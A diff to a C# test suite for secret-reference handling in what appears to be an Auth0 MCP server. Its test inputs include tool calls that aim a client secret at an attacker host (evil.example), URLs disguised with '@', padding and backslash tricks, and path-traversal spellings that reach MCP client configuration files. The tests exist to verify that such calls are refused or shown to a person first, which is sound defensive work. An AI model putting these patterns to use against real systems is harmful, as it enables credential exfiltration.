@@ -82,7 +82,7 @@ public sealed class SecretReferenceTests : IDisposable
     }
 
     [Fact]
-    public async Task Question_NamesHostsInListsAndCountsThoseItLeavesOut()
+    public async Task Question_NamesEveryHostInLists()
     {
         var person = new Person(ConsentAnswer.Declined);
         var hosts = string.Join(',', Enumerable.Range(1, 12).Select(static number => $"\"h{number}.example\""));
@@ -91,7 +91,49 @@ public sealed class SecretReferenceTests : IDisposable
             $$$"""{"name":"db","strategy":"oauth2","options":{"hosts":[{{{hosts}}}],"client_secret":"secret:env:STRIPE_KEY"}}""",
             person: person);
         Assert.Contains("the call names h1.example, h2.example", Assert.Single(person.Questions), StringComparison.Ordinal);
-        Assert.Contains("h10.example and 2 more.", person.Questions[0], StringComparison.Ordinal);
+        Assert.Contains("h11.example, h12.example.", person.Questions[0], StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public async Task CallWithMoreHostsThanAPersonChecks_IsRefusedAndNobodyIsAsked()
+    {
+        var person = Person.WhoAgrees;
+        var others = Growth.Parts(30, static at => $"\"a{at}_url\":\"https://a{at}.example\"");
+        var answer = await Pipeline().CallAsync(
+            "auth0_create_connection",
+            $$$"""{"name":"db","strategy":"oauth2","options":{{{{others}}},"token_endpoint":"https://evil.example","client_secret":"secret:env:STRIPE_KEY"} }""",
+            person: person);
+        Assert.Equal("cannot_ask", answer.Kind);
+        Assert.Contains("31 hosts", answer.Message, StringComparison.Ordinal);
+        Assert.Empty(person.Questions);
+        Assert.Empty(_tenant.Requests);
+    }
+
+    /// <summary>What is stored says where the secret goes, and the call does not.</summary>
+    [Fact]
+    public async Task QuestionAboutAnUpdate_NamesTheHostThatIsStored()
+    {
+        var person = new Person(ConsentAnswer.Declined);
+        _tenant.Answers(_ => """{"id":"lst_1","name":"s","type":"http","status":"active","sink":{"httpEndpoint":"https://evil.example/in","httpContentType":"application/json","httpContentFormat":"JSONLINES"}}""");
+        await Pipeline().CallAsync("auth0_update_log_stream", """{"log_stream_id":"lst_1","sink":{"httpAuthorization":"secret:env:STRIPE_KEY"}}""", person: person);
+        Assert.Contains("the call names evil.example.", Assert.Single(person.Questions), StringComparison.Ordinal);
+        Assert.All(_tenant.Requests, static request => Assert.Equal("GET", request.Method));
+    }
+
+    [Theory]
+    [InlineData("https://api.stripe.com%20PADDING@evil.example/x")]
+    [InlineData("https://PADDING.evil.example/PADDING")]
+    [InlineData("https://PADDING:x@evil.example/")]
+    [InlineData("https://api.stripe.com\\\\@evil.example")]
+    public async Task Question_ShowsTheEndOfEveryHost(string address)
+    {
+        var person = new Person(ConsentAnswer.Declined);
+        var padding = string.Join('.', Enumerable.Repeat(new string('a', 50), 4));
+        await Pipeline().CallAsync(
+            "auth0_create_connection",
+            $$$"""{"name":"db","strategy":"oauth2","options":{"token_endpoint":"{{{address.Replace("PADDING", padding, StringComparison.Ordinal)}}}","client_secret":"secret:env:STRIPE_KEY"} }""",
+            person: person);
+        Assert.Contains("evil.example.\n", Assert.Single(person.Questions), StringComparison.Ordinal);
     }
 
     [Theory]
@@ -107,6 +149,17 @@ public sealed class SecretReferenceTests : IDisposable
         var answer = await pipeline.CallAsync("auth0_create_action", Action(reference), person: person);
         Assert.Contains($"--secrets '{reference["secret:".Length..]}'", answer.Problems, StringComparison.Ordinal);
         Assert.Empty(person.Questions);
+        Assert.Empty(_tenant.Requests);
+    }
+
+    [Theory]
+    [InlineData("secret:file:")]
+    [InlineData("secret:env:")]
+    public async Task ReferenceLongerThanAnyPath_IsNotLookedUpOrQuoted(string scheme)
+    {
+        var answer = await CallAsync("auth0_create_action", Action(scheme + string.Concat(Enumerable.Repeat("a/", 50_000))));
+        Assert.Contains("leads nowhere", answer.Problems, StringComparison.Ordinal);
+        Assert.True(answer.Text.Length < 1000);
         Assert.Empty(_tenant.Requests);
     }
 
@@ -132,6 +185,55 @@ public sealed class SecretReferenceTests : IDisposable
         var answer = await CallAsync("auth0_create_action", Action(reference));
         Assert.Contains("own token", answer.Problems, StringComparison.Ordinal);
         Assert.Empty(_tenant.Requests);
+    }
+
+    /// <summary>However it is spelt, and whatever it is called: clients write this server's variables beside those of others.</summary>
+    [Theory]
+    [InlineData(".mcp.json", ".mcp.json/.", "{}")]
+    [InlineData(".mcp.json", ".mcp.json/x/..", "{}")]
+    [InlineData(".mcp.json", "folder/../.MCP.json", "{}")]
+    [InlineData(".mcp.json.auth0-mcp.bak", ".mcp.json.auth0-mcp.bak", "{}")]
+    [InlineData("cline_mcp_settings.json", "cline_mcp_settings.json", "{}")]
+    [InlineData("renamed.txt", "renamed.txt", """{"mcpServers":{"auth0":{"env":{"TOKEN":"canary"}}}}""")]
+    [InlineData("renamed.txt", "renamed.txt", """{"mcp\\u0053ervers":{}}""")]
+    [InlineData("renamed.txt", "renamed.txt#API", """{"API":"canary","context_servers" : {}}""")]
+    [InlineData("renamed.txt", "renamed.txt", """// mine\n{"servers":{}}""")]
+    [InlineData("renamed.txt", "renamed.txt#env", "[mcp_servers.auth0]\nenv=1")]
+    [InlineData("renamed.txt", "renamed.txt", "servers:\n  auth0:\n    command: x")]
+    public async Task ConfigurationOfAClient_IsClosed(string file, string path, string content)
+    {
+        await File.WriteAllTextAsync(Path.Combine(Folder, file), content.Replace("\\\\u", "\\u", StringComparison.Ordinal));
+        var answer = await CallAsync("auth0_create_action", Action("secret:file:" + path));
+        Assert.Contains("an MCP client", answer.Problems, StringComparison.Ordinal);
+        Assert.Empty(_tenant.Requests);
+    }
+
+    [Theory]
+    [InlineData("secret:file:some", """{"a":{"AUTH0_TOKEN":"canary"}}""")]
+    [InlineData("secret:file:some", """{"AUTH0\\u005fCLIENT_SECRET":"canary"}""")]
+    [InlineData("secret:file:some#auth0_token", """{"auth0_token":"canary"}""")]
+    [InlineData("secret:file:some", "- name: AUTH0_CLIENT_SECRET\n  value: canary")]
+    [InlineData("secret:file:some#MGMT", "MGMT=canary-of-the-server")]
+    [InlineData("secret:file:some#MGMT", """{"MGMT":"Bearer canary-of-the-server"}""")]
+    [InlineData("secret:file:some", "canary-of-the-server")]
+    [InlineData("secret:file:some", "x canary-of-the-sign-in y")]
+    [InlineData("secret:env:SAME", "-")]
+    [InlineData("secret:env:REFRESH", "-")]
+    public async Task ServersOwnToken_LeavesUnderNoName(string reference, string content)
+    {
+        await File.WriteAllTextAsync(Path.Combine(Folder, "some"), content.Replace("\\\\u", "\\u", StringComparison.Ordinal));
+        var answer = await CallAsync("auth0_create_action", Action(reference));
+        Assert.Contains("own token", answer.Problems, StringComparison.Ordinal);
+        Assert.DoesNotContain("canary", answer.Text, StringComparison.Ordinal);
+        Assert.Empty(_tenant.Requests);
+    }
+
+    [Fact]
+    public async Task OtherKeyBesideTheServersOwn_IsSent()
+    {
+        await File.WriteAllTextAsync(Path.Combine(Folder, "some"), $"AUTH0_TOKEN=x\nAPI={Secret}");
+        (await CallAsync("auth0_create_action", Action("secret:file:some#API"))).Success.ToString();
+        Assert.Contains(Secret, _tenant.Request.Body, StringComparison.Ordinal);
     }
 
     [Fact]
@@ -243,7 +345,7 @@ public sealed class SecretReferenceTests : IDisposable
     public async Task Reference_IsLookedUpOnceAndThatIsSent()
     {
         var looked = 0;
-        var pipeline = new Pipeline(_tenant, folder: Folder, secrets: SecretAllowance.Parse("env:STRIPE_KEY", "test"), environment: _ => $"canary-{++looked}");
+        var pipeline = new Pipeline(_tenant, folder: Folder, secrets: SecretAllowance.Parse("env:STRIPE_KEY", "test"), environment: name => name == "STRIPE_KEY" ? $"canary-{++looked}" : null);
         var arguments = Action("secret:env:STRIPE_KEY").Replace("[{\"name\":\"API\"", """[{"name":"SAME","value":"secret:env:STRIPE_KEY"},{"name":"API" """, StringComparison.Ordinal);
         (await pipeline.CallAsync("auth0_create_action", arguments, person: Person.WhoAgrees)).Success.ToString();
         Assert.Equal(1, looked);
@@ -255,7 +357,7 @@ public sealed class SecretReferenceTests : IDisposable
     {
         var looked = 0;
         var person = Person.WhoAgrees;
-        var pipeline = new Pipeline(_tenant, folder: Folder, confirm: ConfirmLevel.Writes, secrets: SecretAllowance.Parse("env:STRIPE_KEY", "test"), environment: _ => $"canary-{++looked}");
+        var pipeline = new Pipeline(_tenant, folder: Folder, confirm: ConfirmLevel.Writes, secrets: SecretAllowance.Parse("env:STRIPE_KEY", "test"), environment: name => name == "STRIPE_KEY" ? $"canary-{++looked}" : null);
         (await pipeline.CallAsync("auth0_call_write_tool", $$"""{"name":"auth0_create_action","arguments":{{Action("secret:env:STRIPE_KEY")}} }""", person: person)).Success.ToString();
         Assert.Equal(1, looked);
         Assert.Single(person.Questions);
@@ -318,5 +420,5 @@ public sealed class SecretReferenceTests : IDisposable
     private Task<Answer> CallAsync(string tool, string arguments) => Pipeline().CallAsync(tool, arguments, person: Person.WhoAgrees);
 
     private Pipeline Pipeline(ConfirmLevel confirm = ConfirmLevel.Never)
-        => new(_tenant, folder: Folder, confirm: confirm, secrets: SecretAllowance.Parse("env:*,file:*,file:*/*,keychain:*", "test"), environment: static name => name switch { "STRIPE_KEY" => Secret, "AUTH0_TOKEN" or "AUTH0_CLIENT_SECRET" => "canary-of-the-server", "SHORT" => "canary", _ => null });
+        => new(_tenant, folder: Folder, confirm: confirm, secrets: SecretAllowance.Parse("env:*,file:*,file:*/*,keychain:*", "test"), environment: static name => name switch { "STRIPE_KEY" => Secret, "AUTH0_TOKEN" or "AUTH0_CLIENT_SECRET" => "canary-of-the-server", "SHORT" => "canary", "SAME" => "canary-of-the-server", "REFRESH" => "canary-of-the-sign-in", _ => null }, own: ["canary-of-the-sign-in"]);
 }
